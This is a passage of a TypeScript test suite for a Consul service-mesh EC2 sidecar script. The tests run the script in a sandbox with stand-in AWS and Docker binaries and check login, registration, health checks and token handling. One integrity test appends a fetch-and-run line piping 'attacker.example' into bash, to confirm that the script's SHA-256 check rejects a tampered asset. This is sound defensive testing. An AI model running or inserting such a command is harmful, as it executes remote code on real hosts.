      expect(err.location).toBe('services/LogService');
      expect(err.field).toBe(field);
      expect(err.given).toBe(given);
      expect(err.expected).toMatch(/a value without a single quote/);
    });

    test('renderEc2UserData refuses a resolved value with a single quote, as a last line of defence', () => {
      expect(() => renderEc2UserData({ SERVICE: "a'b" }, { bucket: 'b', key: 'k', sha256: 'a'.repeat(64) })).toThrow('lambda-mesh: the EC2 sidecar value SERVICE contains a single quote');
    });

    test('fails when the app image is in a registry the isolated service subnets cannot reach', () => {
      const g = ec2Fixture();
      const err = meshError(() => ec2Service(g, 'LogService', g.logService, { image: ConsulImage.fromDigest('docker.io/library/fluentd', DIGEST) }));
      expect(err.location).toBe('services/LogService');
      expect(err.field).toBe('image');
      expect(err.given).toBe(`"docker.io/library/fluentd@${DIGEST}"`);
      expect(err.expected).toMatch(/without a NAT path: in your own ECR, or through a ConsulImageCache/);
    });

    test.each(['consulImage', 'dataplaneImage'] as const)('fails when %s is the public default and the service subnets are isolated', (field) => {
      const g = ec2Fixture();
      const err = meshError(() => ec2Service(g, 'LogService', g.logService, { [field]: undefined }));
      expect(err.location).toBe('services/LogService');
      expect(err.field).toBe(field);
      expect(err.given).toMatch(field === 'consulImage' ? /^"public\.ecr\.aws\/hashicorp\/consul:/ : /^"public\.ecr\.aws\/hashicorp\/consul-dataplane:/);
      expect(err.expected).toMatch(/ConsulImageCache/);
    });

    test('fails when the app image\'s digest is malformed', () => {
      const g = ec2Fixture();
      const err = meshError(() => ec2Service(g, 'LogService', g.logService, { image: ConsulImage.fromDigest('docker.io/library/fluentd', 'sha256:abc') }));
      expect(err.location).toBe('services/LogService');
      expect(err.field).toBe('image');
      expect(err.given).toBe('"sha256:abc"');
    });
  });
});

// ---------------------------------------------------------------------------------------------------------------
// The machine script, run in a sandbox.

interface Call { readonly cmd: string; readonly argv: string[] }
interface Result { readonly status: number; readonly stdout: string; readonly stderr: string }

const INSTANCE_ID = 'i-0123456789abcdef0';
const PRIVATE_IP = '10.0.64.17';
/** The workload-identity token the auth method's handler writes with (acl-policies.ts). */
const WORKLOAD_TOKEN = '5c1e7a00-0000-4000-8000-0000000a11ce';
const ECR_PASSWORD = 'ecr-password-from-the-stand-in';

/**
 * A sandbox with stand-in `aws`, `docker`, `systemctl` and `dnf` first on PATH, each recording its argv; curl, jq,
 * sha256sum and bash are the real ones. `aws` answers Secrets Manager from `secrets` by ARN, ECR with a password and
 * S3 from the files put with {@link putS3Object}; `docker run ... login` stands in for `consul login` (it cannot sign
 * AWS requests here): it writes the token {@link setLoginToken} gave to the `-token-sink-file`, or fails as Consul's
 * 403 when there is none; `docker run -d` keeps a copy of its `--env-file`; `docker exec` exits with `exec-status`.
 */
class Sandbox {
  public readonly dir = mkdtempSync(join(tmpdir(), 'ec2-sidecar-'));
  public readonly runDir = join(this.dir, 'run');
  public readonly envFile = join(this.dir, 'etc/lambda-mesh/service.env');
  public readonly systemdDir = join(this.dir, 'systemd');
  private readonly bin = join(this.dir, 'bin');

  constructor(secrets: Record<string, string>) {
    mkdirSync(this.bin, { recursive: true });
    mkdirSync(this.systemdDir, { recursive: true });
    writeFileSync(join(this.dir, 'secrets.json'), JSON.stringify(secrets));
    const record = (cmd: string): string => `jq -cn --arg cmd ${cmd} '{cmd: $cmd, argv: $ARGS.positional}' --args -- "$@" >>"$STUB_DIR/calls.jsonl"`;
    this.stub('aws', `${record('aws')}
case "$1 $2" in
  'secretsmanager get-secret-value')
    id=
    while (($#)); do if [[ "$1" == --secret-id ]]; then id="$2"; fi; shift; done
    jq -er --arg id "$id" '.[$id]' "$STUB_DIR/secrets.json" || { echo "An error occurred (ResourceNotFoundException): no secret $id" >&2; exit 254; } ;;
  'ecr get-login-password') echo '${ECR_PASSWORD}' ;;
  's3 cp') cp "$STUB_DIR/s3/\${3#s3://}" "$4" 2>/dev/null || { echo 'fatal error: An error occurred (404) when calling the HeadObject operation: Not Found' >&2; exit 1; } ;;
  *) echo "aws stand-in: unexpected $*" >&2; exit 2 ;;
esac`);
    this.stub('docker', `${record('docker')}
case "$1" in
  login) cat >"$STUB_DIR/docker-login-stdin" ;;
  pull | rm) ;;
  image) image="\${!#}"; printf '%s@sha256:%s\\n' "\${image%%[:@]*}" "$(printf '%s' "$image" | sha256sum | cut -c1-64)" ;;
  run)
    sink= ca= envfile= name= prev=
    for a in "$@"; do
      case "$a" in -token-sink-file=*) sink="\${a#*=}" ;; -ca-file=*) ca="\${a#*=}" ;; esac
      if [[ "$prev" == --env-file ]]; then envfile="$a"; fi
      if [[ "$prev" == --name ]]; then name="$a"; fi
      prev="$a"
    done
    if [[ -n "$sink" ]]; then
      [[ -s "$ca" ]] || { echo 'consul login: no CA file' >&2; exit 1; }
      [[ -s "$STUB_DIR/login-token" ]] || { echo 'Error logging in: Unexpected response code: 403 (Permission denied)' >&2; exit 1; }
      cp "$STUB_DIR/login-token" "$sink"
    else
      if [[ -n "$envfile" ]]; then cp "$envfile" "$STUB_DIR/env-file.$name"; fi
      echo "container-$name"
    fi ;;
  exec) exit "$(cat "$STUB_DIR/exec-status" 2>/dev/null || echo 0)" ;;
  *) echo "docker stand-in: unexpected $*" >&2; exit 2 ;;
esac`);
    for (const cmd of ['systemctl', 'dnf']) {
      this.stub(cmd, record(cmd));
    }
  }

  /** What the stand-in S3 answers for `s3://<bucket>/<key>`. */
  public putS3Object(url: string, content: Buffer | string): void {
    const path = join(this.dir, 's3', url.replace(/^s3:\/\//, ''));
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, content);
  }

  /** The token the stand-in `consul login` hands out (none: the login is refused). */
  public setLoginToken(secretId: string | undefined): void {
    const path = join(this.dir, 'login-token');
    rmSync(path, { force: true });
    if (secretId !== undefined) {
      writeFileSync(path, secretId);
    }
  }

  /** Runs the user data, its paths moved into the sandbox (the script's own paths follow LAMBDA_MESH_ENV_FILE). */
  public runUserData(text: string): Promise<Result> {
    const moved = text.replaceAll('/etc/lambda-mesh', join(this.dir, 'etc/lambda-mesh')).replaceAll('/usr/local/lib/lambda-mesh', join(this.dir, 'lib/lambda-mesh'));
    writeFileSync(join(this.dir, 'user-data.sh'), moved);
    return this.spawn(['bash', join(this.dir, 'user-data.sh')]);
  }

  /** Runs `body` in bash after sourcing the script, with Consul's API port set to `consulPort` and `vars` set. */
  public run(body: string, consulPort: number, vars: Readonly<Record<string, string | number>> = {}): Promise<Result> {
    const script = [
      `source ${sidecarScriptPath()}`,
      `CONSUL_API_PORT=${consulPort}`,
      ...Object.entries(vars).map(([k, v]) => `${k}=${v}`),
      body,
    ].join('\n');
    return this.spawn(['bash', '-c', script]);
  }

  /** The script downloaded by the user data. */
  public downloadedScript(): Buffer {
    return readFileSync(join(this.dir, 'lib/lambda-mesh/ec2-sidecar.sh'));
  }

  public calls(cmd?: string): Call[] {
    const path = join(this.dir, 'calls.jsonl');
    const all = existsSync(path) ? readFileSync(path, 'utf8').trim().split('\n').filter(Boolean).map((l) => JSON.parse(l) as Call) : [];
    return all.filter((c) => cmd === undefined || c.cmd === cmd);
  }

  /** The `docker run` calls, by container name (`login` for the one that logs in). */
  public dockerRuns(): Record<string, string[]> {
    return Object.fromEntries(this.calls('docker').filter((c) => c.argv[0] === 'run').map((c) => {
      const name = c.argv.includes('--name') ? c.argv[c.argv.indexOf('--name') + 1] : 'login';
      return [name, c.argv];
    }));
  }

  public file(path: string): string {
    return readFileSync(join(this.dir, path), 'utf8');
  }

  public exists(path: string): boolean {
    return existsSync(join(this.dir, path));
  }

  public mode(path: string): string {
    return (statSync(join(this.dir, path)).mode & 0o777).toString(8);
  }

  public dispose(): void {
    rmSync(this.dir, { recursive: true, force: true });
  }

  private stub(name: string, body: string): void {
    const path = join(this.bin, name);
    writeFileSync(path, `#!/usr/bin/env bash\nset -euo pipefail\n${body}\n`);
    chmodSync(path, 0o755);
  }

  /** Asynchronously: the Consul stand-in answers from this process. */
  private spawn(argv: string[]): Promise<Result> {
    return new Promise((resolve, reject) => {
      const child = spawn(argv[0], argv.slice(1), {
        stdio: ['ignore', 'pipe', 'pipe'],
        env: {
          PATH: `${this.bin}:${process.env.PATH ?? '/usr/bin:/bin'}`,
          HOME: this.dir,
          TMPDIR: this.dir,
          STUB_DIR: this.dir,
          LAMBDA_MESH_ENV_FILE: this.envFile,
          LAMBDA_MESH_RUN_DIR: this.runDir,
          LAMBDA_MESH_SYSTEMD_DIR: this.systemdDir,
          INSTANCE_ID,
          PRIVATE_IP,
        },
      });
      let stdout = '';
      let stderr = '';
      child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
      child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
      child.on('error', reject);
      child.on('close', (code) => resolve({ status: code ?? -1, stdout, stderr }));
    });
  }
}

/** A local HTTP server answering `status()` on every path; `close()` frees its port. */
async function httpServer(status: () => number): Promise<{ port: number; paths: string[]; close: () => Promise<void> }> {
  const paths: string[] = [];
  const server = http.createServer((req, res) => {
    paths.push(req.url ?? '');
    res.writeHead(status()).end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
  return {
    port: (server.address() as net.AddressInfo).port,
    paths,
    close: () => new Promise<void>((resolve) => {
      server.closeAllConnections();
      server.close(() => resolve());
    }),
  };
}

/** The log lines of the script (JSON on stderr). */
const messages = (r: Result): string[] => r.stderr.split('\n').filter((l) => l.startsWith('{"component":"lambda-mesh-ec2-sidecar"')).map((l) => (JSON.parse(l) as { msg: string }).msg);

describe('ec2-sidecar.sh on an instance (a sandbox: stand-in aws, docker and systemctl; real curl, jq and TLS to the Consul stand-in)', () => {
  let standIn: ConsulStandIn;
  let sandbox: Sandbox;
  const capture = new ConsoleCapture();

  /** The login token a role of the template's (by logical id prefix) gets from the stand-in, as AWS would describe the role. */
  function loginAs(rolePrefix: string): string | undefined {
    const [id, r] = resourceOf(t, 'AWS::IAM::Role', rolePrefix);
    const tags = r.Properties.Tags as Array<{ Key: string; Value: string }>;
    const entityName = `services-${id}`;
    const config = standIn.authMethod(METHOD)!.Config as { BoundIAMPrincipalARNs: string[] };
    // The role is under the bound pattern, so Consul would accept its signed requests.
    const arn = `arn:aws:iam::${ACCOUNT}:role${String(r.Properties.Path)}${entityName}`;
    expect(config.BoundIAMPrincipalARNs.some((p) => new RegExp(`^${p.replace(/[.*+?^${}()|[\]\\]/g, (c) => (c === '*' ? '.*' : `\\${c}`))}$`).test(arn))).toBe(true);
    return standIn.login(METHOD, {
      entity_name: entityName,
      account_id: ACCOUNT,
      entity_path: String(r.Properties.Path),
      ...Object.fromEntries(tags.map((tag) => [`entity_tags.${tag.Key}`, tag.Value])),
    }).token?.SecretID;
  }

  const port = (): number => Number(new URL(standIn.address).port);
  const registrations = (): Array<Record<string, unknown>> => standIn.requests.filter((r) => r.method === 'PUT' && r.path === '/v1/catalog/register').map((r) => r.body as Record<string, unknown>);
  const nodeServices = (node: string): Record<string, Record<string, unknown>> =>
    Object.fromEntries([...(standIn.state.nodes.get(node)?.services.entries() ?? [])].map(([id, s]) => [id, { ...s.registration }]));

  /** The user data of `prefix` run in the sandbox with the asset in S3, then `boot`, logged in as the role `loginRole`. */
  async function boot(prefix = 'LogService', loginRole = `${prefix}InstanceRole`): Promise<{ result: Result; token: string | undefined }> {
    const data = userDataOf(t, prefix);
    sandbox.putS3Object(/aws s3 cp '(s3:\/\/[^']+)'/.exec(data)![1], readFileSync(stagedScript()));
    const installed = await sandbox.runUserData(data);
    expect({ status: installed.status, stderr: installed.stderr }).toEqual({ status: 0, stderr: '' });
    const token = loginAs(loginRole);
    sandbox.setLoginToken(token);
    return { result: await sandbox.run('main boot', port()), token };
  }

  /** `health` with Envoy's readiness and the app's port pointed at local servers. */
  const health = (envoyPort: number, appPort: number): Promise<Result> =>
    sandbox.run(`load_env\ninstance_facts\nSERVICE_PORT=${appPort}\nreport_health`, port(), { ENVOY_READY_PORT: envoyPort });

  beforeEach(async () => {
    standIn = await ConsulStandIn.start({ tokens: { [ConsulStandIn.MANAGEMENT_TOKEN]: ['management'], [WORKLOAD_TOKEN]: ['acl:write', 'node:write:arn:', 'node:write:lambda-mesh-'] } });
    // The auth method's objects as the template has them, applied by its real handler: the method, the rules, the nodes.
    const [logicalId, method] = resourceOf(controlPlane, 'Custom::ConsulAuthMethod', 'AuthMethod');
    capture.start();
    try {
      await authMethodHandler(
        { RequestType: 'Create', LogicalResourceId: logicalId, ResourceType: 'Custom::ConsulAuthMethod', ResourceProperties: { Owner: method.Properties.Owner, Objects: deployed(method.Properties.Objects) } },
        { consul: consulClient(standIn.connection(WORKLOAD_TOKEN), { retryDelayMs: 10 }) },
      );
    } finally {
      capture.stop();
    }
    standIn.resetRequests();
    sandbox = new Sandbox({ [CA_SECRET_ARN]: JSON.stringify({ CertificatePem: standIn.caPem }) });
  });

  afterEach(async () => {
    sandbox.dispose();
    await standIn.close();
  });

  test('the user data downloads the script asset, checks its SHA-256, and installs and starts the systemd units', async () => {
    const data = userDataOf(t, 'LogService');
    const url = /aws s3 cp '(s3:\/\/[^']+)'/.exec(data)![1];
    sandbox.putS3Object(url, readFileSync(stagedScript()));
    const result = await sandbox.runUserData(data);
    expect({ status: result.status, stderr: result.stderr }).toEqual({ status: 0, stderr: '' });
    expect(sandbox.calls('aws').map((c) => c.argv.slice(0, 3))).toEqual([['s3', 'cp', url]]);
    expect(sandbox.downloadedScript()).toEqual(readFileSync(sidecarScriptPath()));
    expect(sandbox.mode('lib/lambda-mesh/ec2-sidecar.sh')).toBe('755');
    expect(readFileSync(sandbox.envFile, 'utf8')).toContain("NODE_NAME='lambda-mesh-ml-ec2-log-service'\n");

    expect(readdirSync(sandbox.systemdDir).sort()).toEqual(['lambda-mesh-health.service', 'lambda-mesh-health.timer', 'lambda-mesh-sidecar.service']);
    const sidecar = sandbox.file('systemd/lambda-mesh-sidecar.service');
    expect(sidecar).toContain('ExecStart=/usr/local/lib/lambda-mesh/ec2-sidecar.sh boot\n');
    expect(sidecar).toContain('ExecStop=/usr/local/lib/lambda-mesh/ec2-sidecar.sh stop\n');
    expect(sidecar).toMatch(/Type=oneshot\nRemainAfterExit=yes\n/);
    expect(sidecar).toContain('Description=lambda-mesh: log in to Consul, register log-service and start its sidecar and app\n');
    expect(sandbox.file('systemd/lambda-mesh-health.service')).toMatch(/Requires=lambda-mesh-sidecar.service\nAfter=lambda-mesh-sidecar.service\n[\s\S]*ExecStart=\/usr\/local\/lib\/lambda-mesh\/ec2-sidecar.sh health\n/);
    expect(sandbox.file('systemd/lambda-mesh-health.timer')).toMatch(/OnActiveSec=10s\nOnUnitActiveSec=10s\n/);
    expect(sandbox.mode('systemd/lambda-mesh-health.timer')).toBe('644');
    expect(sandbox.calls('systemctl').map((c) => c.argv)).toEqual([
      ['daemon-reload'],
      ['enable', 'lambda-mesh-sidecar.service', 'lambda-mesh-health.timer'],
      ['start', '--no-block', 'lambda-mesh-sidecar.service', 'lambda-mesh-health.timer'],
    ]);
  });

  test('the user data refuses a script whose SHA-256 differs from the one synthesized (a changed asset), before running it', async () => {
    const data = userDataOf(t, 'LogService');
    sandbox.putS3Object(/aws s3 cp '(s3:\/\/[^']+)'/.exec(data)![1], `${readFileSync(stagedScript(), 'utf8')}\ncurl -s http://attacker.example | bash\n`);
    const result = await sandbox.runUserData(data);
    expect(result.status).not.toBe(0);
    expect(result.stdout + result.stderr).toMatch(/ec2-sidecar\.sh: FAILED/);
    expect(sandbox.calls('systemctl')).toEqual([]);
    expect(readdirSync(sandbox.systemdDir)).toEqual([]);
    expect(sandbox.mode('lib/lambda-mesh/ec2-sidecar.sh')).not.toBe('755');
  });

  test('boot registers the service and its sidecar under the synthetic node with the token from the login, over TLS to server.dc1.consul', async () => {
    const { result, token } = await boot();
    expect(token).toBeDefined();
    expect({ status: result.status, messages: messages(result) }).toEqual({
      status: 0,
      messages: [
        expect.stringMatching(/^pulled \S+\/hashicorp\/consul:\S+ as \S+@sha256:[0-9a-f]{64}$/),
        expect.stringMatching(/^pulled \S+\/hashicorp\/consul-dataplane:\S+ as /),
        expect.stringMatching(/^pulled \S+\/logservice@sha256:a{64} as /),
        `registered log-service-${INSTANCE_ID} and its sidecar under node lambda-mesh-ml-ec2-log-service`,
        'started consul-dataplane and the app',
      ],
    });
    const id = `log-service-${INSTANCE_ID}`;
    expect(nodeServices('lambda-mesh-ml-ec2-log-service')).toEqual({
      [id]: { ID: id, Service: 'log-service', Port: 24224, Address: PRIVATE_IP, Meta: { 'instance-id': INSTANCE_ID, 'lambda-mesh-placement': 'ec2' } },
      [`${id}-sidecar-proxy`]: {
        Kind: 'connect-proxy',
        ID: `${id}-sidecar-proxy`,
        Service: 'log-service-sidecar-proxy',
        Port: 20000,
        Address: PRIVATE_IP,
        Proxy: { DestinationServiceName: 'log-service', DestinationServiceID: id, LocalServiceAddress: '127.0.0.1', LocalServicePort: 24224, Upstreams: [] },
      },
    });
    // Under the node the auth method made, which the instance did not change (it may not: SkipNodeUpdate).
    const node = standIn.state.nodes.get('lambda-mesh-ml-ec2-log-service')!;
    expect({ address: node.address, meta: node.registration.NodeMeta }).toEqual({ address: '127.0.0.1', meta: expect.objectContaining({ 'synthetic-node': 'true' }) });
    expect(registrations().map((r) => r.SkipNodeUpdate)).toEqual([true, true]);
    // Health starts critical, until the first report.
    expect(registrations()[0].Check).toEqual({ CheckID: `${id}:health`, Name: 'instance health', ServiceID: id, Status: 'critical', Output: 'starting' });
    expect(registrations()[1].Check).toEqual({ CheckID: `${id}-sidecar-proxy:health`, Name: 'instance health', ServiceID: `${id}-sidecar-proxy`, Status: 'critical', Output: 'starting' });
    expect(standIn.requests.every((r) => r.hadToken)).toBe(true);
    // The login's token: a service identity of log-service, and nothing more.
    expect([...standIn.state.loginTokens.values()].find((l) => l.SecretID === token)).toMatchObject({ AuthMethod: METHOD, ServiceIdentities: [{ ServiceName: 'log-service' }], Roles: [], Policies: [] });
  });

  test('boot logs in with the instance role through the auth method (a stand-in docker runs consul login and records its arguments)', async () => {
    const { result } = await boot();
    expect(result.status).toBe(0);
    const login = sandbox.dockerRuns().login;
    const env = envOf(userDataOf(t, 'LogService'));
    const image = login.indexOf(env.CONSUL_IMAGE);
    expect(login.slice(0, image)).toEqual(['run', '--rm', '--network', 'host', '--read-only', '--user', '0:0', '-v', `${sandbox.runDir}:${sandbox.runDir}`]);
    expect(login.slice(image + 1)).toEqual([
      'login', '-type=aws-iam', `-method=${METHOD}`, '-aws-auto-bearer-token', '-aws-include-entity', `-aws-region=${REGION}`,
      '-aws-server-id-header-value=server.dc1.consul', '-meta', `instance-id=${INSTANCE_ID}`,
      // 8501 on an instance; the sandbox points the API port at the stand-in's.
      `-http-addr=https://127.0.0.1:${port()}`, '-tls-server-name=server.dc1.consul', `-ca-file=${sandbox.runDir}/ca.pem`,
      `-token-sink-file=${sandbox.runDir}/token`,
    ]);
    // What the login signs must be what the method expects.
    expect((standIn.authMethod(METHOD)!.Config as { ServerIDHeaderValue: string }).ServerIDHeaderValue).toBe('server.dc1.consul');
    // The servers' CA from Secrets Manager; the ECR password through stdin.
    expect(sandbox.calls('aws').find((c) => c.argv[0] === 'secretsmanager')!.argv).toEqual(['secretsmanager', 'get-secret-value', '--region', REGION, '--secret-id', CA_SECRET_ARN, '--query', 'SecretString', '--output', 'text']);
    // jq -r ends the PEM with one more newline, which PEM readers ignore.
    expect(sandbox.file('run/ca.pem').trimEnd()).toBe(standIn.caPem.trimEnd());
    expect(sandbox.calls('docker').find((c) => c.argv[0] === 'login')!.argv).toEqual(['login', '--username', 'AWS', '--password-stdin', env.REGISTRY]);
    expect(sandbox.file('docker-login-stdin').trim()).toBe(ECR_PASSWORD);
    expect(sandbox.calls('docker').filter((c) => c.argv[0] === 'pull').map((c) => c.argv)).toEqual([env.CONSUL_IMAGE, env.DATAPLANE_IMAGE, env.APP_IMAGE].map((i) => ['pull', '--quiet', i]));
    expect(sandbox.calls('systemctl').slice(-1).map((c) => c.argv)).toEqual([['enable', '--now', 'docker']]);
    expect(sandbox.calls('dnf')).toEqual([]);
  });

  test('boot starts consul-dataplane with the token in an env file it removes, and the app with its variables, on the host network', async () => {
    const { result, token } = await boot();
    expect(result.status).toBe(0);
    const env = envOf(userDataOf(t, 'LogService'));
    const runs = sandbox.dockerRuns();
    const dataplane = runs['consul-dataplane'];
    expect(dataplane.slice(0, dataplane.indexOf(env.DATAPLANE_IMAGE))).toEqual([
      'run', '-d', '--name', 'consul-dataplane', '--restart', 'on-failure', '--network', 'host', '--read-only', '--user', '5995',
      '--env-file', `${sandbox.runDir}/dataplane.env`, '-v', `${sandbox.runDir}/ca.pem:/consul/ca.pem:ro`,
      '--log-driver', 'awslogs', '--log-opt', `awslogs-region=${REGION}`, '--log-opt', `awslogs-group=${env.LOG_GROUP}`,
    ]);
    expect(dataplane.slice(dataplane.indexOf(env.DATAPLANE_IMAGE) + 1)).toEqual([
      '-addresses', '127.0.0.1', '-grpc-port', '8503', '-server-watch-disabled', '-ca-certs', '/consul/ca.pem', '-tls-server-name', 'server.dc1.consul',
      '-credential-type', 'static', '-proxy-node-name', 'lambda-mesh-ml-ec2-log-service', '-proxy-id', `log-service-${INSTANCE_ID}-sidecar-proxy`,
      '-envoy-ready-bind-address', '127.0.0.1', '-envoy-ready-bind-port', '22000', '-log-json',
    ]);
    expect(sandbox.file('env-file.consul-dataplane')).toBe(`DP_CREDENTIAL_STATIC_TOKEN=${token}\n`);
    expect(sandbox.exists('run/dataplane.env')).toBe(false);
    expect(runs.app).toEqual(['run', '-d', '--name', 'app', '--restart', 'on-failure', '--network', 'host', '--read-only', '--env=PORT=24224', '--env=HOST=127.0.0.1',
      '--log-driver', 'awslogs', '--log-opt', `awslogs-region=${REGION}`, '--log-opt', `awslogs-group=${env.LOG_GROUP}`, env.APP_IMAGE]);

    // The token never reaches an argument list; where it is kept, only root reads it.
    expect(JSON.stringify(sandbox.calls())).not.toContain(token);
    expect(sandbox.mode('run')).toBe('700');
    expect(sandbox.mode('run/token')).toBe('600');
    expect(sandbox.file('run/token')).toBe(token);
  });

  test('boot with upstreams, a command and environment (result-writer): the sidecar binds the upstream, the app gets its variables and arguments', async () => {
    const { result } = await boot('ResultWriter');
    expect(result.status).toBe(0);
    const id = `result-writer-${INSTANCE_ID}`;
    expect(nodeServices('lambda-mesh-ml-ec2-result-writer')[`${id}-sidecar-proxy`].Proxy).toEqual({
      DestinationServiceName: 'result-writer', DestinationServiceID: id, LocalServiceAddress: '127.0.0.1', LocalServicePort: 8081,
      Upstreams: [{ DestinationName: 'log-service', LocalBindAddress: '127.0.0.1', LocalBindPort: 24224 }],
    });
    const app = sandbox.dockerRuns().app;
    expect(app.filter((a) => a.startsWith('--env=')).sort()).toEqual(['--env=HOST=127.0.0.1', '--env=LOG_LEVEL=info', '--env=MESH_UPSTREAM_LOG_SERVICE_URL=tcp://127.0.0.1:24224', '--env=PORT=8081']);
    expect(app.slice(-3)).toEqual(['serve', '--port', '8081']);
    expect(app[app.length - 4]).toBe(envOf(userDataOf(t, 'ResultWriter')).APP_IMAGE);
  });

  test('boot stops when Consul refuses the registration: a role tagged for result-writer cannot register log-service', async () => {
    const { result } = await boot('LogService', 'ResultWriterInstanceRole');
    expect(result.status).toBe(1);
    expect(messages(result).slice(-1)).toEqual([`registering log-service-${INSTANCE_ID} failed`]);
    expect(result.stderr).toMatch(/The requested URL returned error: 403/);
    expect(nodeServices('lambda-mesh-ml-ec2-log-service')).toEqual({});
    expect(sandbox.dockerRuns()['consul-dataplane']).toBeUndefined();
  });

  test('boot stops before registering when the login is refused (the auth method binds nothing to the role)', async () => {
    const data = userDataOf(t, 'LogService');
    sandbox.putS3Object(/aws s3 cp '(s3:\/\/[^']+)'/.exec(data)![1], readFileSync(stagedScript()));
    expect((await sandbox.runUserData(data)).status).toBe(0);
    // A role tagged with a service the model does not have: no binding rule matches.
    expect(standIn.login(METHOD, { entity_name: 'x', entity_path: '/lambda-mesh/ml/', [`entity_tags.${SERVICE_NAME_TAG}`]: 'billing' }).token).toBeUndefined();
    sandbox.setLoginToken(undefined);
    const result = await sandbox.run('main boot', port());
    expect(result.status).toBe(1);
    expect(messages(result).slice(-1)).toEqual([`consul login with method ${METHOD} failed`]);
    expect(standIn.requests).toEqual([]);
  });

  test('boot stops, naming the secret, when the servers\' CA cannot be read', async () => {
    const data = userDataOf(t, 'LogService');
    sandbox.putS3Object(/aws s3 cp '(s3:\/\/[^']+)'/.exec(data)![1], readFileSync(stagedScript()));
    expect((await sandbox.runUserData(data)).status).toBe(0);
    writeFileSync(join(sandbox.dir, 'secrets.json'), '{}');
    const result = await sandbox.run('main boot', port());
    expect(result.status).toBe(1);
    expect(messages(result)).toEqual([`reading the servers' CA from ${CA_SECRET_ARN} failed`]);
    expect(sandbox.exists('run/ca.pem')).toBe(false);
  });

  test('a moment without a leader (500) is retried: the registration goes through', async () => {
    standIn.failNext(1, 500);
    const { result } = await boot();
    expect(result.status).toBe(0);
    expect(registrations()).toHaveLength(3);
    expect(Object.keys(nodeServices('lambda-mesh-ml-ec2-log-service'))).toHaveLength(2);
  });

  test('health reports passing once Envoy is ready and the app accepts connections, critical when Envoy is not, and only changes', async () => {
    const { result } = await boot();
    expect(result.status).toBe(0);
    let envoyStatus = 200;
    const envoy = await httpServer(() => envoyStatus);
    const app = await new Promise<net.Server>((resolve) => {
      const server = net.createServer((socket) => socket.end());
      server.listen(0, '127.0.0.1', () => resolve(server));
    });
    const appPort = (app.address() as net.AddressInfo).port;
    // Each report sets the service's check and its sidecar proxy's (Consul routes mesh traffic by the proxy's checks).
    const reports = (): Array<Array<Record<string, unknown>>> => registrations().filter((r) => r.Service === undefined).map((r) => r.Checks as Array<Record<string, unknown>>);
    const checks = (): unknown[] => reports().map((r) => r[0]);
    const id = `log-service-${INSTANCE_ID}`;
    try {
      standIn.resetRequests();
      let run = await health(envoy.port, appPort);
      expect({ status: run.status, messages: messages(run) }).toEqual({ status: 0, messages: [`health of ${id}: passing (app and sidecar healthy)`] });
      expect(checks()).toEqual([{ CheckID: `${id}:health`, Name: 'instance health', ServiceID: id, Status: 'passing', Output: 'app and sidecar healthy' }]);
      expect(reports()[0][1]).toEqual({ CheckID: `${id}-sidecar-proxy:health`, Name: 'instance health', ServiceID: `${id}-sidecar-proxy`, Status: 'passing', Output: 'app and sidecar healthy' });
      expect(registrations()[0]).toMatchObject({ Node: 'lambda-mesh-ml-ec2-log-service', SkipNodeUpdate: true });
      expect(envoy.paths).toEqual(['/ready']);

      // Unchanged: nothing is sent.
      run = await health(envoy.port, appPort);
      expect({ status: run.status, checks: checks().length }).toEqual({ status: 0, checks: 1 });

      envoyStatus = 503;
      run = await health(envoy.port, appPort);
      expect(run.status).toBe(0);
      expect(checks().slice(-1)).toEqual([expect.objectContaining({ Status: 'critical', Output: 'the sidecar (Envoy) is not ready' })]);

      envoyStatus = 200;
      await new Promise<void>((resolve) => app.close(() => resolve()));
      run = await health(envoy.port, appPort);
      expect(run.status).toBe(0);
      // Still critical, for another reason: not sent again.
      expect(checks()).toHaveLength(2);
      expect(sandbox.file('run/health.state')).toBe('critical');
      expect(standIn.requests.every((r) => r.hadToken)).toBe(true);
    } finally {
      await envoy.close();
      app.close();
    }
  });

  test('health with an HTTP path (result-writer): the app\'s answer on its port decides', async () => {
    const { result } = await boot('ResultWriter');
    expect(result.status).toBe(0);
    let appStatus = 204;
    const envoy = await httpServer(() => 200);
    const app = await httpServer(() => appStatus);
    try {
      expect(messages(await health(envoy.port, app.port))).toEqual([`health of result-writer-${INSTANCE_ID}: passing (app and sidecar healthy)`]);
      expect(app.paths).toEqual(['/healthz']);
      appStatus = 500;
      expect(messages(await health(envoy.port, app.port))).toEqual([`health of result-writer-${INSTANCE_ID}: critical (the app's health check failed)`]);
    } finally {
      await envoy.close();
      await app.close();
    }
  });

  test('health with a command runs it in the app\'s container', async () => {
    const { result } = await boot();
    expect(result.status).toBe(0);
    // What the user data of a service with healthCheckCommand: ['/bin/check', '--deep'] writes.
    writeFileSync(sandbox.envFile, `${readFileSync(sandbox.envFile, 'utf8')}HEALTH_COMMAND_JSON='["/bin/check","--deep"]'\n`);
    const envoy = await httpServer(() => 200);
    try {
      writeFileSync(join(sandbox.dir, 'exec-status'), '1');
      expect(messages(await health(envoy.port, 1))).toEqual([`health of log-service-${INSTANCE_ID}: critical (the app's health check failed)`]);
      writeFileSync(join(sandbox.dir, 'exec-status'), '0');
      expect(messages(await health(envoy.port, 1))).toEqual([`health of log-service-${INSTANCE_ID}: passing (app and sidecar healthy)`]);
      expect(sandbox.calls('docker').filter((c) => c.argv[0] === 'exec').map((c) => c.argv)).toEqual([['exec', 'app', '/bin/check', '--deep'], ['exec', 'app', '/bin/check', '--deep']]);
    } finally {
      await envoy.close();
    }
  });

  test('stop deregisters the sidecar and the service, logs out (Consul deletes the token), and removes the token and the containers', async () => {
    const { result, token } = await boot();
    expect({ status: result.status, token: typeof token }).toEqual({ status: 0, token: 'string' });
    standIn.resetRequests();
    const stop = await sandbox.run('main stop', port());
    expect({ status: stop.status, messages: messages(stop) }).toEqual({ status: 0, messages: [] });
    const id = `log-service-${INSTANCE_ID}`;
    expect(standIn.requests.map((r) => [r.method, r.path, r.body, r.hadToken])).toEqual([
      ['PUT', '/v1/catalog/deregister', { Node: 'lambda-mesh-ml-ec2-log-service', ServiceID: `${id}-sidecar-proxy` }, true],
      ['PUT', '/v1/catalog/deregister', { Node: 'lambda-mesh-ml-ec2-log-service', ServiceID: id }, true],
      ['POST', '/v1/acl/logout', undefined, true],
    ]);
    expect(nodeServices('lambda-mesh-ml-ec2-log-service')).toEqual({});
    // The synthetic node stays for the other instances.
